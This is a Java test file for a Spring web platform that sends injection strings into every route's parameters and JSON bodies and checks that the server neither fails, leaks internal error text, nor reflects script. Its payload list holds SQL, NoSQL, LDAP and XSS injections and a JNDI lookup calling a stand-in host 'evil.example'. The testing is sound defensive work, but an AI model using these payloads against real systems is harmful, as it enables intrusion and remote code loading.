package io.sillage.edge;

import static org.assertj.core.api.Assertions.assertThat;

import io.sillage.account.Accounts;
import io.sillage.garage.Garage;
import io.sillage.ownership.Households;
import io.sillage.ownership.Ownership;
import io.sillage.testing.PlatformTest;
import java.net.URI;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.http.HttpMethod;
import org.springframework.http.MediaType;
import org.springframework.test.web.servlet.assertj.MockMvcTester;
import org.springframework.test.web.servlet.assertj.MvcTestResult;
import org.springframework.test.web.servlet.request.MockHttpServletRequestBuilder;
import org.springframework.test.web.servlet.request.MockMvcRequestBuilders;

/** A35: what is no text to us but a command to somebody else is text everywhere, and nothing that goes wrong is shown. */
@PlatformTest
class HostileTextTests {

    private static final List<String> TEXTS = List.of(
            "' or '1'='1",
            "1'; select pg_sleep(9); --",
            "\"}{$ne:null}",
            "*)(uid=*))(|(uid=*",
            "${jndi:ldap://evil.example/x}#{7*7}",
            "<script>alert(1)</script>\"onload=\"x",
            "x".repeat(3_000));

    /** Words that only who found a fault says. */
    private static final String[] INSIDES = {
        "Exception", "at io.sillage", "org.spring", "org.postgresql", "SQLSTATE", "syntax error", "select * ", ".java"
    };

    /** What pages and programs are asked with. */
    private static final List<String> NAMES = List.of(
            "mail",
            "code",
            "vin",
            "nom",
            "name",
            "motif",
            "qui",
            "pas",
            "jeton",
            "vers",
            "mois",
            "month",
            "from",
            "to",
            "by",
            "car",
            "trip",
            "before",
            "avant",
            "apres",
            "session",
            "passkey",
            "connection",
            "langue",
            "theme",
            "q",
            "lu",
            "password");

    /** They end the session of who asks, or stay open. */
    private static final List<String> NOT_ASKED = List.of("/sign-out", "/live", "/api/v1/session");

    @Autowired
    MockMvcTester http;

    @Autowired
    Accounts accounts;

    @Autowired
    Garage garage;

    @Autowired
    Ownership ownership;

    @Test
    void isTextInEachParameterOfEachRoute() {
        var household = new Households(accounts, garage, ownership).any();
        var person = Visitor.signedIn(http, household.mail(), Households.PASSWORD);
        var wrong = new ArrayList<String>();
        for (var route : Route.ALL) {
            if (NOT_ASKED.stream().noneMatch(route.pattern()::equals)) {
                for (var text : TEXTS) {
                    var complaint = complaint(person.change(request(route, text)), text);
                    wrong.add(complaint.isEmpty() ? "" : route.method() + " " + route.pattern() + complaint + text);
                }
            }
        }
        wrong.removeIf(String::isEmpty);
        assertThat(wrong).isEmpty();
        assertThat(person.get("/api/v1/account")).hasStatusOk();
    }

    private static String complaint(MvcTestResult answer, String text) {
        int status = answer.getResponse().getStatus();
        var body = Visitor.body(answer);
        if (status >= 500) {
            return " fails with " + status + " on ";
        }
        for (var word : INSIDES) {
            if (status >= 400 && body.contains(word) && !text.contains(word)) {
                return " says '" + word + "' on ";
            }
        }
        var type = String.valueOf(answer.getResponse().getContentType());
        return type.startsWith("text/html") && body.contains("<script>alert") ? " repeats as it is " : "";
    }

    private static MockHttpServletRequestBuilder request(Route route, String text) {
        var typed = URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
        // a slash or a semicolon in a path is the firewall's, and StrangerTests has those
        var inPath = typed.replace("%2F", "-").replace("%3B", "-").replace("%5C", "-");
        var path = route.pattern().replaceAll("\\{[^}]+}", inPath.substring(0, Math.min(inPath.length(), 300)));
        var request = MockMvcRequestBuilders.request(route.method(), URI.create(path.replace("/**", "/" + "x")));
        if (route.pattern().startsWith("/api/") && !route.method().equals(HttpMethod.GET)) {
            var quoted = text.replace("\\", "\\\\").replace("\"", "\\\"");
            return request.contentType(MediaType.APPLICATION_JSON)
                    .content("{\"mail\":\"" + quoted + "\",\"name\":\"" + quoted + "\"}");
        }
        NAMES.forEach(name -> request.param(name, text));
        return request;
    }
}
